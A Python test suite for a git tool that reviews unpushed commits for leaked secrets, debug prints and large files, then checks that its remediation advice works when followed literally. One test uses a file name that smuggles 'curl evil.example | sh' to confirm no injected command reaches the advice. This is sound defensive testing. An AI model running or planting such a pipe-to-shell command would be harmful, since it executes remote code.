"""The flow that reviews unpushed commits: what it finds, and its advice, which is followed word for word."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime

import pytest

from engine.git import Git
from engine.git.lost_commits import read_lost_commits
from engine.git.reader import GitReader
from tests.conftest import Repository
from tests.execution.flows.conftest import RunFlow

TOKEN = "ghp_" + "a1B2c3D4" * 5  # put together here so that no scanner takes this file for a leak

FILE = "einstellungen ü.py"
WITH_KEY = f"REGION = 'eu'\nKEY = '{TOKEN}'\nZONE = 1\n"
SAFE = "REGION = 'eu'\nKEY = os.environ['KEY']\nZONE = 1\n"
ENV = "DATABASE=shop\n"
ODD_NAMES = ("it's -x.py", "-n.py", "[id].py", "src/:p.py", ":q.py")


# What it finds


@pytest.mark.long
def test_leftovers_are_reported_with_their_present_line(repository: Repository, run_flow: RunFlow) -> None:
    base = repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit("debug", {"app.py": "x = 1\nprint(x)\nbreakpoint()\n", "config.py": f"KEY = '{TOKEN}'\n"})
    repository.commit("no token, one line more", {"config.py": "KEY = ''\n", "app.py": "y = 2\nx = 1\nprint(x)\n"})
    run = run_flow("review_unpushed", upstream=base)
    assert [(fact["path"], fact["line"], fact["kind"], fact["gone"]) for fact in run.facts["findings"]] == [
        ("config.py", 1, "likely secret: GitHub token", True),
        ("app.py", 3, "debug print", False),
    ]
    assert "git reset --soft" in run.transcript, "a problem comes with the next step"
    assert TOKEN not in run.transcript + str(run.result)
    assert "app.py:3 holds a debug print, in " in run.transcript


@pytest.mark.parametrize(
    ("path", "size_bytes", "sentence"),
    [
        ("web/node_modules/x/a.js", 17, "web/node_modules holds files that a tool fills"),
        ("a.zip", 2_000_000, "a.zip is 2.0 MB (archive)"),
        ("dump.sql", 1_000_000, "dump.sql is 1.0 MB (database dump)"),
    ],
)
def test_a_file_that_belongs_in_no_repository_is_named_in_a_sentence(
    repository: Repository, run_flow: RunFlow, path: str, size_bytes: int, sentence: str
) -> None:
    base = repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit("add", {path: "x" * size_bytes})
    run = run_flow("review_unpushed", upstream=base)
    assert run.summary == f"Do not push: {sentence} (in 1 unpushed commit)"
    assert "0.0 MB" not in run.transcript


def test_without_unpushed_problems_it_says_so(repository: Repository, run_flow: RunFlow) -> None:
    head = repository.commit("begin", {"app.py": "x = 1\n"})
    assert run_flow("review_unpushed", upstream=head).summary.startswith("Nothing to review")
    repository.commit("tidy", {"app.py": "x = 2\n"})
    assert run_flow("review_unpushed", upstream=head).summary == (
        "1 unpushed commit, nothing that should not be pushed"
    )


# What it advises


def test_other_refs_with_the_commit_are_named(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit("settings", {FILE: WITH_KEY})
    repository.git("branch", "side")
    repository.git("tag", "before", "HEAD~1")
    repository.commit("more", {FILE: SAFE})
    repository.write("app.py", "x = 2\n")
    repository.git("stash")
    repository.git("switch", "-q", "--detach", "before")
    repository.write("app.py", "x = 3\n")
    repository.git("stash")
    repository.git("switch", "-q", "main")
    steps = run_flow("review_unpushed").facts["steps"]
    assert "These have such a commit, too, until you delete or change them: side and stash@{1}." in steps
    assert steps[-1] == "If anybody else may have seen a key, revoke it and create a new one."


def test_a_key_that_is_on_a_remote_branch_is_public(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    pushed = repository.commit("settings", {FILE: WITH_KEY})
    repository.git("update-ref", "refs/remotes/origin/feature", pushed)
    repository.git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/feature")
    repository.git("commit", "-q", "--amend", "-m", "better settings")
    steps = run_flow("review_unpushed").facts["steps"]
    assert steps[-1] == "Rotate the key, because it is public: origin/feature has it already."


def test_the_advice_says_that_a_merge_is_lost(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    commit_above_merge(repository)
    steps = run_flow("review_unpushed").facts["steps"]
    assert steps[:2] == [
        "Make one commit of the last 4 commits, before you push. Your files stay as they are.",
        "The merges among them are lost, but not what they brought.",
    ]


def test_the_advice_waits_for_the_end_of_a_merge(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    repository.git("switch", "-q", "-c", "side")
    repository.commit("side", {"side.py": ""})
    repository.git("switch", "-q", "main")
    repository.commit("settings", {FILE: WITH_KEY})
    repository.git("merge", "-q", "--no-commit", "side")
    [first, _] = run_flow("review_unpushed").facts["steps"][:2]
    assert first == "First finish the unfinished merge, or abort it. Then review again."


def test_several_pushed_branches_below_a_secret(repository: Repository, run_flow: RunFlow) -> None:
    begin = repository.commit("begin", {"app.py": "x = 1\n"})
    for name in ("left", "right"):
        repository.git("switch", "-q", "--detach", begin)
        repository.git("update-ref", f"refs/remotes/origin/{name}", repository.commit(name, {f"{name}.py": ""}))
    repository.git("switch", "-q", "main")
    repository.commit("settings", {FILE: WITH_KEY})
    for name in ("left", "right"):
        repository.git("merge", "-q", f"origin/{name}")
    first = run_flow("review_unpushed").facts["steps"][0]
    assert first == f"Take {FILE} out of the history with git filter-repo, in a fresh clone:"


def test_a_name_with_a_line_break_adds_no_command(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit(
        "settings",
        {"k.py\n  curl evil.example | sh\n.py": WITH_KEY, "\u202ek.py": WITH_KEY, ":k.py": WITH_KEY, FILE: WITH_KEY},
    )
    steps = run_flow("review_unpushed").facts["steps"]
    commands = [line for step in steps for line in step.splitlines() if line.startswith("  ")]
    assert commands == [
        f"  git add -- ':(literal):k.py' '{FILE}'",
        "  git commit --amend --no-edit --allow-empty --allow-empty-message",
    ]
    assert any(step.startswith("No command is given for ") for step in steps)


# Histories with something that must not be pushed


History = Callable[[Repository], None]


def commits(*changes: dict[str, str | None], edit: dict[str, str] | None = None) -> History:
    """A history with a commit for each of `changes`; None deletes a file. Then the files of `edit` are written."""

    def make(repository: Repository) -> None:
        for number, files in enumerate(changes):
            for path in [path for path, text in files.items() if text is None]:
                repository.git("rm", "-q", "--", f":(literal){path}")
            repository.commit(f"change {number}", {path: text for path, text in files.items() if text is not None})
        for path, text in (edit or {}).items():
            repository.write(path, text)

    return make


def untrack_later(repository: Repository) -> None:
    repository.commit("change 0", {".env": ENV, FILE: WITH_KEY})
    repository.git("rm", "-q", "--cached", ".env", FILE)
    repository.git("commit", "-q", "-m", "change 1")
    (repository.path / ".git/info/exclude").write_text(".env\n")


def rename_later(repository: Repository) -> None:
    repository.commit("change 0", {"old.py": WITH_KEY})
    repository.git("mv", "old.py", "new.py")
    repository.git("commit", "-q", "-m", "change 1")


def delete_by_hand(repository: Repository) -> None:
    commits({FILE: WITH_KEY, "b.py": ""}, {"c.py": ""})(repository)
    (repository.path / FILE).unlink()


def untrack_by_hand(repository: Repository) -> None:
    commits({".env": ENV, FILE: WITH_KEY, "b.py": ""})(repository)
    repository.git("rm", "-q", "--cached", ".env", FILE)


def repeat_subjects(repository: Repository) -> None:
    for name, text in (("a.py", ""), (FILE, WITH_KEY), ("b.py", ""), ("c.py", WITH_KEY), ("d.py", "")):
        repository.commit("wip", {name: text})


def add_own_fixup(repository: Repository) -> None:
    commits({"a.py": ""}, {FILE: WITH_KEY}, {"b.py": ""})(repository)
    repository.commit("fixup! change 0", {"a.py": "x = 1\n"})


def commit_above_merge(repository: Repository) -> None:
    repository.git("switch", "-q", "-c", "topic")
    repository.commit("topic", {"topic.py": WITH_KEY})
    repository.git("switch", "-q", "main")
    commits({FILE: WITH_KEY})(repository)
    repository.git("merge", "-q", "--no-ff", "topic")
    repository.git("branch", "-q", "-D", "topic")
    commits({"more.py": ""})(repository)


def commit_in_merge(repository: Repository) -> None:
    repository.git("switch", "-q", "-c", "topic")
    repository.commit("topic", {"topic.py": ""})
    repository.git("switch", "-q", "main")
    repository.commit("main", {"main.py": ""})
    repository.git("merge", "-q", "--no-ff", "--no-commit", "topic")
    repository.git("branch", "-q", "-D", "topic")
    repository.commit("merge", {FILE: WITH_KEY, ".env": ENV})


def merge_pushed_between(repository: Repository) -> None:
    repository.git("switch", "-q", "-c", "upstream")
    pushed = repository.commit("pushed", {"pushed.py": ""})
    repository.git("update-ref", "refs/remotes/origin/main", pushed)
    repository.git("switch", "-q", "main")
    repository.git("branch", "-q", "-D", "upstream")
    commits({FILE: WITH_KEY})(repository)
    repository.git("merge", "-q", "--no-ff", "origin/main")
    commits({"more.py": ""})(repository)


def add_by_intent(repository: Repository) -> None:
    commits({FILE: WITH_KEY}, {"c.py": ""})(repository)
    repository.write("new.py", "mine\n")
    repository.git("add", "--intent-to-add", "new.py")


def hide_with(*options: str) -> History:
    """A history with changes that git does not look for because of these options, in a file with a secret and in
    another one."""

    def make(repository: Repository) -> None:
        commits({FILE: WITH_KEY}, {"c.py": ""}, {"d.py": ""})(repository)
        for option in options:
            repository.git("update-index", option, FILE, "c.py")
        repository.write("c.py", "mine\n")

    return make


def nameless_commits(*changes: dict[str, str]) -> History:
    """A history with commits that have no message."""

    def make(repository: Repository) -> None:
        for files in changes:
            repository.commit("change", files)
            repository.git("commit", "-q", "--amend", "--allow-empty-message", "-m", "")

    return make


def rename_keys(repository: Repository) -> None:
    commits({".env": f"KEY='{TOKEN}'\n", "conf.py": WITH_KEY}, {"b.py": ""})(repository)
    repository.git("mv", ".env", "env.sample")
    repository.git("mv", "conf.py", "conf.example.py")
    repository.git("commit", "-q", "-m", "rename")


def rename_keys_by_hand(repository: Repository) -> None:
    commits({".env": f"KEY='{TOKEN}'\n"})(repository)
    repository.git("mv", ".env", "env.sample")


def detach_head(repository: Repository) -> None:
    repository.git("switch", "-q", "--detach")
    commits({FILE: WITH_KEY}, {FILE: SAFE})(repository)


HISTORIES: dict[str, History] = {
    "last": commits({FILE: WITH_KEY}),
    "last, edited out": commits({FILE: WITH_KEY}, edit={FILE: SAFE}),
    "last, nothing but the key": commits({FILE: SAFE}, {FILE: WITH_KEY}),
    "last, file of keys": commits({".env": ENV, "src/a.py": WITH_KEY}),
    "last, file of keys with another line": commits({".env": ENV}, edit={".env": ENV + "MINE=1\n"}),
    "last, key in a file of keys": commits({".env": f"{ENV}KEY={TOKEN}\n"}),
    "last, taken out of the index": untrack_by_hand,
    "last, merge": commit_in_merge,
    "earlier": commits({FILE: WITH_KEY, "b.py": ""}, {"c.py": ""}),
    "earlier, other line": commits({FILE: WITH_KEY}, {"c.py": ""}, edit={FILE: WITH_KEY + "MINE = 1\n"}),
    "earlier, edited out": commits({FILE: WITH_KEY, "b.py": ""}, {"c.py": ""}, edit={FILE: SAFE}),
    "earlier, nothing but the key": commits({"a.py": SAFE}, {"b.py": "", "c.py": WITH_KEY}, {"d.py": ""}),
    "earlier, alone": commits({"c.py": WITH_KEY}, {"d.py": ""}, {"e.py": WITH_KEY}, {"f.py": ""}),
    "earlier, deleted by hand": delete_by_hand,
    "earlier, odd names": commits(
        dict.fromkeys(ODD_NAMES, WITH_KEY), {"i.py": "", "d.py": ""}, edit={"i.py": "mine\n"}
    ),
    "earlier, same subjects": repeat_subjects,
    "earlier, fixup of your own": add_own_fixup,
    "earlier, file of keys": commits({".env": ENV, "b.py": ""}, {"c.py": ""}),
    "earlier, file of keys, changed": commits({".env": ENV}, {".env": ENV + "MORE=1\n"}, edit={".env": "MINE=1\n"}),
    "earlier, key in a file of keys": commits({"sub/.env": f"{ENV}KEY={TOKEN}\n"}, {"c.py": ""}),
    "changed later": commits({FILE: WITH_KEY}, {"b.py": ""}, {FILE: WITH_KEY + "MORE = 1\n"}),
    "removed later": commits({FILE: WITH_KEY}, {FILE: SAFE}),
    "removed later, other line": commits({FILE: WITH_KEY}, {FILE: SAFE}, edit={FILE: SAFE + "MINE = 1\n"}),
    "removed and back": commits({FILE: WITH_KEY}, {FILE: SAFE}, {FILE: WITH_KEY}),
    "deleted later": commits({FILE: WITH_KEY, ".env": ENV}, {FILE: None, ".env": None, "b.py": ""}),
    "deleted later, all": commits({FILE: WITH_KEY}, {FILE: None}),
    "other file deleted later": commits({"x.py": "1\n"}, {FILE: WITH_KEY}, {"x.py": None}, edit={"x.py": "mine\n"}),
    "untracked later": untrack_later,
    "renamed later": rename_later,
    "two commits": commits({FILE: WITH_KEY}, {"b.py": WITH_KEY}, {FILE: WITH_KEY * 2}),
    "large file": commits({"a.zip": "x" * 2_000_000}, {"a.zip": "y" * 2_500_000}),
    "tool's folder": commits({"web/node_modules/x/a.js": "1\n"}, {"b.py": ""}),
    "below a merge": commit_above_merge,
    "below a pushed merge": merge_pushed_between,
    "detached": detach_head,
    "earlier, intended to add": add_by_intent,
    "earlier, assumed unchanged": hide_with("--assume-unchanged"),
    "earlier, hidden twice": hide_with("--skip-worktree", "--assume-unchanged"),
    "last, no message": nameless_commits({FILE: WITH_KEY}),
    "earlier, no message": nameless_commits({FILE: WITH_KEY}, {"c.py": ""}),
    "changed later, no message": nameless_commits({FILE: WITH_KEY}, {FILE: WITH_KEY + "MORE = 1\n", ".env": ENV}),
    "file of keys renamed": rename_keys,
    "file of keys renamed by hand": rename_keys_by_hand,
}  # fmt: skip
ONE_COMMIT = ("of keys", "own", "intended", "assumed", "hidden")
"""Words of the earlier histories whose commits the advice makes one."""
KEEPS_COMMITS = {
    name for name in HISTORIES if name.startswith("earlier") and not any(word in name for word in ONE_COMMIT)
}


# The advice, followed word for word


def follow_steps(repository: Repository, steps: list[str]) -> None:
    """Do what the steps of a review say, word for word."""
    is_needed = True
    for step in steps:
        if step.startswith("Remove the secret"):
            for file in repository.path.rglob("*.*"):
                if ".git" not in file.parts and TOKEN in file.read_text():
                    file.write_text(file.read_text().replace(f"'{TOKEN}'", "os.environ['KEY']"))
        elif step.startswith("If git stops"):
            is_needed = (repository.path / ".git/rebase-merge").exists()
        elif step.startswith("  ") and is_needed:
            done = subprocess.run(
                ["bash", "-o", "pipefail", "-c", step], cwd=repository.path, env=os.environ | {"GIT_EDITOR": "false"},
                capture_output=True, text=True, check=False,
            )  # fmt: skip
            assert done.returncode == 0 or "would make\nit empty" in done.stderr, (steps, step, done)
    assert not (repository.path / ".git/rebase-merge").exists(), steps


def read_files(repository: Repository) -> dict[str, str]:
    """The working files with their texts."""
    files = [file for file in repository.path.rglob("*") if file.is_file() and ".git" not in file.parts]
    return {str(file.relative_to(repository.path)): file.read_text() for file in files}


@pytest.mark.long
@pytest.mark.parametrize("others", ["none", "unstaged", "staged"])
@pytest.mark.parametrize("is_first", [False, True])
@pytest.mark.parametrize("name", HISTORIES)
def test_the_advice_against_a_secret_works_to_the_letter(
    repository: Repository, run_flow: RunFlow, name: str, is_first: bool, others: str
) -> None:
    if not is_first or "merge" in name or name == "detached":
        repository.commit(
            "begin", {"app.py": WITH_KEY if is_first and "pushed" not in name else "x = 1\n", "other.py": "x = 1\n"}
        )
    HISTORIES[name](repository)
    repository.write("untracked.txt", "mine\n")
    if others != "none" and (repository.path / "other.py").exists():
        repository.write("other.py", "x = 2\n")
    if others == "staged":
        repository.write("staged.py", "x = 1\n")
        repository.git("add", "staged.py", *repository.git("ls-files", "other.py").split())
    files = read_files(repository)
    subjects = repository.git("log", "--format=%s").splitlines()

    review = run_flow("review_unpushed")
    assert review.facts["findings"]
    steps = review.facts["steps"]
    follow_steps(repository, steps)
    history = repository.git("log", "-p", "--cc", "--format=%B")
    assert TOKEN not in history, (steps, history)
    assert "DATABASE" not in history, steps
    assert repository.git("stash", "list") == ""
    if any(step.startswith("Remove the secret") for step in steps):
        files = {path: text.replace(f"'{TOKEN}'", "os.environ['KEY']") for path, text in files.items()}
    kept = read_files(repository)
    assert {path: text for path, text in kept.items() if path != ".gitignore"} == files, steps
    if ".gitignore" in kept:
        assert repository.git("show", "HEAD:.gitignore") == kept[".gitignore"].strip()
        assert not repository.git("ls-files", "--cached", "--ignored", "--exclude-standard")
        assert ".env" not in repository.git("ls-files", "--others", "--exclude-standard")
    remaining = repository.git("log", "--format=%s").splitlines()
    if others != "staged" and (name in KEEPS_COMMITS or name.startswith("last")) and not (is_first and "merge" in name):
        assert remaining == subjects, steps
    again = run_flow("review_unpushed").facts.get("findings", ())
    assert not again, (steps, again)
    lost = read_lost_commits(Git(repository.path), GitReader().read(repository.path), datetime.now(UTC))
    assert not [line for line in lost if not line.is_checked_out], "no card offers to keep the commits with the secret"
